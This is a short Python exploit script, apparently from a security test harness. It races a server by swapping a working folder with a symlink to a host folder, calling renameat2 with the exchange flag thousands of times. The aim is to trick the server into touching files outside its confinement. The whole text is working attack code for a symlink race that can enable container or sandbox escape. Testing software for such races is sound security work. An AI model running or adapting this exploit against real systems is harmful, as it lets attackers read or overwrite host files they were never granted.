"""Swaps a folder for a link to one of the machine, thousands of times, while the server works in it."""

import ctypes
import os

import target

os.makedirs("/mnt/data/swap/in", exist_ok=True)
open("/mnt/data/swap/canary", "w").write("own")
open("/mnt/data/swap/in/canary", "w").write("own")
data = os.open("/mnt/data", os.O_RDONLY)
os.symlink(target.HOST_FOLDER, "/mnt/data/other")
exchange = ctypes.c_uint(2)
for _ in target.until(2):
    for _ in range(200):
        target.libc.renameat2(data, b"swap", data, b"other", exchange)
target.tried()
